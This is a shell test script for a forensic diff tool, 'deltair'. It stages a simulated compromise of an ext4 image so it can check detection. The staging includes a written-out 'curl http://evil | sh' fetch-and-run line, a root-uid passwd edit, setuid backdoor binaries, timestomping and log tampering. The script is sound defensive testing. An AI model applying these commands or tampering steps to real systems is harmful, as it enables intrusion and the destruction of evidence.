#!/bin/bash
# t2010: the key test. A gold ext4 image is baselined; a copy is loop-mounted read-write and
# "compromised" with every change class and flag; the ground truth is written down as each
# change is made. `deltair diff --baseline gold.dtree incident.img` must report exactly that:
# nothing missing, nothing extra (no parent directory whose mtime merely changed, no file
# rewritten with identical content). The same through two .dtree files, where appended
# becomes modified. The gold against itself, or against a cp of its image: no delta, exit 0.
# Oracle: the ground truth written while compromising; fls -rd (sleuthkit) for names left in
# unallocated directory space.
. "$TOP/tests/cli/lib.sh"
need mke2fs debugfs fls jq python3

# truth CHANGE PATH [FLAG...]: one expected event.
truth()
{
	python3 -c '
import base64, json, sys
p = sys.argv[2].encode("utf-8", "surrogateescape")
print(json.dumps({"p": base64.b64encode(p).decode(), "change": sys.argv[1],
                  "flags": sorted(sys.argv[3:])}, sort_keys=True))' "$@" >> "$TRUTH"
}
TRUTH=$PWD/truth.jsonl

lines()
{
	local i
	for i in $(seq 1 "$2"); do
		printf '%s host%02d sshd[%d]: session %d opened for 10.0.0.%d\n' "$1" $((i % 7)) $((1000 + i)) "$i" $((i % 250))
	done
}

# The gold system: the tree of hard cases plus a small Unix layout.
fixture_tree gold
(
	set -e
	cd gold
	mkdir -p etc/alternatives usr/bin usr/local/bin usr/lib var/log var/tmp home/user root tmp \
		srv/olddir
	printf 'root:x:0:\nadm:x:4:\n' > etc/group
	printf 'root:*:19000:0:99999:7:::\n' > etc/shadow
	chown 0:42 etc/shadow
	chmod 0640 etc/shadow
	printf 'welcome\n' > etc/motd
	printf 'vi\n' > usr/bin/vi
	printf 'nano\n' > usr/bin/nano
	chmod 0755 usr/bin/vi usr/bin/nano
	ln -s /usr/bin/vi etc/alternatives/editor
	printf 'libfoo version 1\n' > usr/lib/libfoo.so
	lines 'Jun  1 12:00:00' 100 > var/log/x.log
	lines 'Jun  1 12:00:00' 100 > var/log/auth.log
	lines 'Jun  1 12:00:00' 100 > var/log/kern.log
	printf 'quarterly report\n' > home/user/doc.txt
	printf 'delete me\n' > home/user/todelete.txt
	printf 'notes\n' > home/user/notes.txt
	chown -R 1000:1000 home/user
	printf 'export PS1=gold\n' > root/.bashrc
	chmod 0700 root
	printf 'data\n' > srv/data.txt
	printf 'old\n' > srv/olddir/file
	printf 'passwd binary\n' > usr/bin/passwd
	chmod 4755 usr/bin/passwd
	printf '#!/bin/sh\necho tool\n' > srv/tool.sh
	chmod 0755 srv/tool.sh
	printf 'report\n' > srv/report.txt
	chmod 1777 tmp
	find . -depth -exec touch -h -d "$FIXTURE_TIME" {} +
)
[ $? -eq 0 ] || die "building the gold tree failed"
mkext4 gold gold.img 64M

dt_ok baseline --no-progress -o gold.dtree gold.img

# The gold against itself: no delta.
dt diff --baseline gold.dtree gold.img
expect_rc 0 "diff --baseline gold.dtree gold.img"
grep -q '"event":"file"' out && fail "the gold image against its own baseline reports: $(grep '"event":"file"' out | head -5)"
cp --sparse=always gold.img pristine.img
dt diff --baseline gold.dtree pristine.img
expect_rc 0 "diff --baseline gold.dtree against a cp of the gold image"
dt diff gold.dtree gold.dtree
expect_rc 0 "diff gold.dtree gold.dtree"

# The compromise.
cp --sparse=always gold.img incident.img
t_loop incident.img
M=$PWD/m
t_mount "$LOOP" "$M"
: > truth.jsonl
(
	set -e
	cd "$M"
	# added, deleted, modified, appended (a plain file and a log)
	printf 'added=1\n' > etc/added.conf
	truth added /etc/added.conf
	rm home/user/todelete.txt
	truth deleted /home/user/todelete.txt
	python3 -c '
import sys
p = sys.argv[1]
d = open(p, "rb").read().replace(b"user:x:1000:1000", b"user:x:0:0", 1)
open(p, "wb").write(d)' etc/passwd
	truth modified /etc/passwd
	printf 'evil:x:0:\n' >> etc/group
	truth appended /etc/group
	lines 'Jun  2 03:17:00' 20 >> var/log/x.log
	truth appended /var/log/x.log
	# a log edited in the middle (same size), a log cut short: truncated_log
	python3 -c '
import sys
p = sys.argv[1]
d = bytearray(open(p, "rb").read())
i = d.index(b"10.0.0.50\n")
d[i:i + 9] = b"10.6.6.66"
open(p, "r+b").write(d)' var/log/auth.log
	truth modified /var/log/auth.log truncated_log
	head -n 40 var/log/kern.log > "$OLDPWD/kern.40"
	cat "$OLDPWD/kern.40" > var/log/kern.log
	truth modified /var/log/kern.log truncated_log
	# renamed into a new directory
	mkdir srv/new-dir
	truth added /srv/new-dir
	mv home/user/doc.txt srv/new-dir/doc.txt
	truth renamed /srv/new-dir/doc.txt
	# an empty file moved is not a rename (renames need content): deleted + added. Its inode
	# keeps its gold times: mtime (the fixture's, 2021) older than crtime (mke2fs's), which
	# the timestomp rule for added files looks at; but the gold had that inode (number and
	# birth time), so it is an old file under a new name, not flagged. The same for a new
	# hard link to an old inode.
	mv data/empty-too srv/new-dir/empty-moved
	truth deleted /data/empty-too
	truth added /srv/new-dir/empty-moved
	# a new hard link to an unchanged file is an added file, not a rename
	ln usr/bin/nano usr/local/bin/nano-link
	truth added /usr/local/bin/nano-link executable
	# added objects of other types
	ln -s /etc/shadow var/tmp/shadow-link
	truth added /var/tmp/shadow-link
	mkfifo var/tmp/pipe
	truth added /var/tmp/pipe
	# metadata: mode, owner, symlink target, a directory's mode
	chmod 0644 etc/shadow
	truth metadata /etc/shadow permissions_widened
	chown 1000:1000 srv/data.txt
	truth metadata /srv/data.txt
	rm etc/alternatives/editor
	ln -s /usr/bin/nano etc/alternatives/editor
	truth metadata /etc/alternatives/editor
	chmod 0700 home/user
	truth metadata /home/user
	# type: a file replaced by a directory (with a file in it)
	rm etc/motd
	mkdir etc/motd
	printf 'inside\n' > etc/motd/inner
	truth type /etc/motd
	truth added /etc/motd/inner
	# suid: added to an existing (non-executable) file; a new setuid executable
	chmod u+s home/user/notes.txt
	truth metadata /home/user/notes.txt suid_added
	cp /bin/true usr/local/bin/suidsh
	chmod 4755 usr/local/bin/suidsh
	truth added /usr/local/bin/suidsh executable suid_added
	# setgid counts as set-uid does: added to an existing file; a new setgid executable
	chmod g+s srv/report.txt
	truth metadata /srv/report.txt suid_added
	cp /bin/true usr/local/bin/sgidsh
	chmod 2755 usr/local/bin/sgidsh
	truth added /usr/local/bin/sgidsh executable suid_added
	# a set-uid file renamed keeps the bit it had: not suid_added; a file renamed and made
	# set-uid on the way is
	mv usr/bin/passwd usr/local/bin/pw
	truth renamed /usr/local/bin/pw executable
	mv srv/tool.sh usr/local/bin/tool
	chmod 4755 usr/local/bin/tool
	truth renamed /usr/local/bin/tool executable suid_added
	# timestomp: content changed, mtime put back to the gold's
	touch -r usr/lib/libfoo.so "$OLDPWD/libfoo.ref"
	printf 'libfoo version 2 (trojaned)\n' > usr/lib/libfoo.so
	touch -r "$OLDPWD/libfoo.ref" usr/lib/libfoo.so
	truth modified /usr/lib/libfoo.so timestomp_suspected
	# timestomp of an added file: mtime older than its creation
	printf 'stomped\n' > etc/stomped.conf
	touch -d '2020-02-02 02:02:02' etc/stomped.conf
	truth added /etc/stomped.conf timestomp_suspected
	# executables: an ELF, a #! script without an x bit, a modified executable script
	cp /bin/true usr/local/bin/evil
	truth added /usr/local/bin/evil executable
	printf '#!/bin/sh\ncurl http://evil | sh\n' > etc/added.sh
	truth added /etc/added.sh executable
	printf '#!/bin/sh\necho pwned\n' > bin/script.sh
	truth modified /bin/script.sh executable
	# hidden: a dot directory and a file in it; a modified dot file
	mkdir var/tmp/.hid
	truth added /var/tmp/.hid hidden
	printf 'payload\n' > var/tmp/.hid/payload
	truth added /var/tmp/.hid/payload hidden
	printf 'export PS1=owned\n' >> root/.bashrc
	truth appended /root/.bashrc hidden
	# hard links: one inode, three paths modified
	printf 'changed through one link\n' > links/h1
	truth modified /links/h1
	truth modified /links/h2
	truth modified '/names/h3 elsewhere'
	# the hard names
	printf 'PIPE\n' > 'names/a|b'
	truth modified '/names/a|b'
	rm "names/$(printf 'bad\377\376\200name')"
	truth deleted "/names/$(printf 'bad\377\376\200name')"
	printf 'evil\n' > "home/user/$(printf '\377\376evil')"
	truth added "/home/user/$(printf '\377\376evil')"
	rm special/fifo
	truth deleted /special/fifo
	# a deleted directory and what was in it
	rm -r srv/olddir
	truth deleted /srv/olddir
	truth deleted /srv/olddir/file
	# NOT changes: a pristine rewrite (new inode, new mtime, same content, mode, owner)
	cp etc/hostname "$OLDPWD/hostname.saved"
	rm etc/hostname
	cat "$OLDPWD/hostname.saved" > etc/hostname
	chmod 0644 etc/hostname
	# NOT changes: reading files (atime), touching a file (mtime only)
	cat etc/group usr/bin/vi > /dev/null
	touch usr/bin/vi
	# a file that will be deleted behind the kernel's back (below)
	printf 'ghost\n' > tmp/ghost.txt
)
[ $? -eq 0 ] || die "applying the compromise failed"
sync
_t_umount "$M" || die "umount failed"
losetup -d "$LOOP"
# Recent kernels wipe the name of a deleted file; debugfs leaves it in the directory block, as
# older kernels and other systems do: a name in unallocated space, absent from the gold.
debugfs -w -R 'rm /tmp/ghost.txt' incident.img > /dev/null 2>&1 || die "debugfs rm failed"

# The test's own check of its timestomp truth for added entries: flagged exactly when the
# mtime is older than the birth time, as the kernel sees them, but for the two old inodes
# under new names.
t_mount_ro incident.img incmnt
python3 - truth.jsonl incmnt << 'EOF' || die "the ground truth's timestomp flags are wrong (the test is broken)"
import base64, json, os, subprocess, sys
bad = 0
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r["change"] != "added":
        continue
    p = os.path.join(sys.argv[2].encode(), base64.b64decode(r["p"])[1:])
    w, y = subprocess.run(["stat", "-c", "%.9W %.9Y", p], capture_output=True,
                          check=True).stdout.split()
    stomp = int(y.replace(b".", b"")) < int(w.replace(b".", b""))
    if p.endswith((b"/srv/new-dir/empty-moved", b"/usr/local/bin/nano-link")):
        stomp = False
    if stomp != ("timestomp_suspected" in r["flags"]):
        print("  %r: birth %s mtime %s, truth flags %s" % (p, w, y, r["flags"]))
        bad += 1
sys.exit(1 if bad else 0)
EOF

# Names in unallocated directory space, from fls: every one absent from the gold and not
# allocated in the incident is an added deleted_entry.
t_mount_ro gold.img goldmnt
oracle goldmnt p0 > gold.jsonl
fls -r -p -d incident.img > fls-deleted.txt || die "fls -rd failed"
fls -r -p incident.img > fls-all.txt || die "fls -r failed"
python3 - gold.jsonl fls-deleted.txt fls-all.txt >> truth.jsonl << 'EOF'
import base64, json, sys
gold = {base64.b64decode(json.loads(l)["p"]) for l in open(sys.argv[1])}
def names(f, deleted):
    out = set()
    for line in open(f, "rb"):
        meta, _, name = line.rstrip(b"\n").partition(b":\t")
        if (b" * " in meta) != deleted or b"$OrphanFiles" in name:
            continue
        out.add(b"/" + name)
    return out
alloc = names(sys.argv[3], False)
for p in sorted(names(sys.argv[2], True) - gold - alloc):
    flags = ["deleted_entry"]
    if any(c.startswith(b".") for c in p.split(b"/")):
        flags.append("hidden")
    print(json.dumps({"p": base64.b64encode(p).decode(), "change": "added",
                      "flags": sorted(flags)}, sort_keys=True))
EOF
grep -q "$(printf '/tmp/ghost.txt' | base64)" truth.jsonl ||
	note "fls does not see /tmp/ghost.txt: the deleted_entry case is not asserted"

# The diff, image against the gold baseline.
dt diff --baseline gold.dtree incident.img
expect_rc 1 "diff --baseline gold.dtree incident.img"
cp out events.jsonl
cp err events.err
tail -n 1 events.jsonl | jq -e '.event == "summary"' > /dev/null ||
	fail "the last line is not the summary: $(tail -n 1 events.jsonl)"
others=$(grep -v '"event":"\(file\|summary\)"' events.jsonl | head -5)
[ -z "$others" ] || fail "unexpected events: $others"
canon_jsonl < events.jsonl > got.jsonl
note "truth: $(wc -l < truth.jsonl) changes; deltair: $(wc -l < got.jsonl) file events"
compare truth.jsonl got.jsonl change flags || fail "diff --baseline gold.dtree incident.img is not the ground truth"

# Details of a few events.
python3 - events.jsonl << 'EOF' || fail "event details are wrong"
import json, sys
ev = {}
for l in open(sys.argv[1], "rb"):
    e = json.loads(l)
    if e.get("event") == "file":
        ev[e["path"]] = e
bad = []
def want(path, cond, what):
    e = ev.get(path)
    if e is not None and not cond(e):
        bad.append("%s: %s (event: %s)" % (path, what, json.dumps(e)[:300]))
want("/srv/new-dir/doc.txt", lambda e: e.get("old_path") == "/home/user/doc.txt", "old_path")
want("/etc/shadow", lambda e: "mode" in e.get("changed", []) and "sha256" not in e.get("changed", []),
     "changed has mode, not sha256")
want("/etc/shadow", lambda e: e.get("mode") == "0644" and e.get("gold", {}).get("mode") == "0640",
     "mode 0644, gold mode 0640")
want("/srv/data.txt", lambda e: {"uid", "gid"} <= set(e.get("changed", [])), "changed has uid, gid")
want("/etc/alternatives/editor", lambda e: e.get("link_target") == "/usr/bin/nano"
     and e.get("gold", {}).get("link_target") == "/usr/bin/vi", "link targets")
want("/etc/motd", lambda e: e.get("type") == "dir" and e.get("gold", {}).get("type") == "file", "types")
want("/home/user/notes.txt", lambda e: e.get("mode") == "4644", "mode 4644")
want("/home/user/todelete.txt", lambda e: e.get("size") == 10 and e.get("type") == "file",
     "a deleted event describes the gold entry")
want("/var/log/x.log", lambda e: e.get("size", 0) > e.get("gold", {}).get("size", 1 << 60), "grew")
for e in ev.values():
    if e.get("fs") != "p0":
        bad.append("%s: fs %r" % (e["path"], e.get("fs")))
for b in bad:
    print(" ", b)
sys.exit(1 if bad else 0)
EOF

# The summary counts agree with the events.
python3 - events.jsonl << 'EOF' || fail "the summary counts do not match the events"
import collections, json, sys
rows = [json.loads(l) for l in open(sys.argv[1], "rb")]
c = collections.Counter(e["change"] for e in rows if e.get("event") == "file")
s = rows[-1].get("counts", {})
bad = {k: (s.get(k, 0), v) for k, v in c.items() if s.get(k, 0) != v}
bad.update({k: (v, 0) for k, v in s.items() if v and k not in c and k in
            ("added", "deleted", "modified", "appended", "renamed", "metadata", "type")})
if bad:
    print("  summary vs events:", bad); sys.exit(1)
EOF

# The same through two trees: appended cannot be told from modified without the image.
dt_ok baseline --no-progress -o incident.dtree incident.img
# The incident tree itself is the incident filesystem, to the nanosecond (kernel timestamps).
oracle incmnt p0 > incident-want.jsonl
dt_ok tree export --format jsonl incident.dtree
grep -v '"deleted_entry":true' out | canon_jsonl > incident-got.jsonl
compare incident-want.jsonl incident-got.jsonl fs type mode uid gid size link sha256 inode \
	mtime_ns atime_ns ctime_ns crtime_ns || fail "the incident tree differs from the incident filesystem"
python3 -c '
import json, sys
for l in open(sys.argv[1]):
    r = json.loads(l)
    if r["change"] == "appended":
        r["change"] = "modified"
    print(json.dumps(r, sort_keys=True))' truth.jsonl > truth-trees.jsonl
dt diff gold.dtree incident.dtree
expect_rc 1 "diff gold.dtree incident.dtree"
canon_jsonl < out > got-trees.jsonl
compare truth-trees.jsonl got-trees.jsonl change flags || fail "diff gold.dtree incident.dtree is not the ground truth"

# -o: the same events in a file, nothing on stdout.
dt diff --baseline gold.dtree -o events2.jsonl incident.img
expect_rc 1 "diff -o events2.jsonl"
[ ! -s out ] || fail "diff -o also printed on stdout"
canon_jsonl < events2.jsonl > got2.jsonl
cmp -s got.jsonl got2.jsonl || fail "diff -o wrote other events than diff to stdout"
t_done
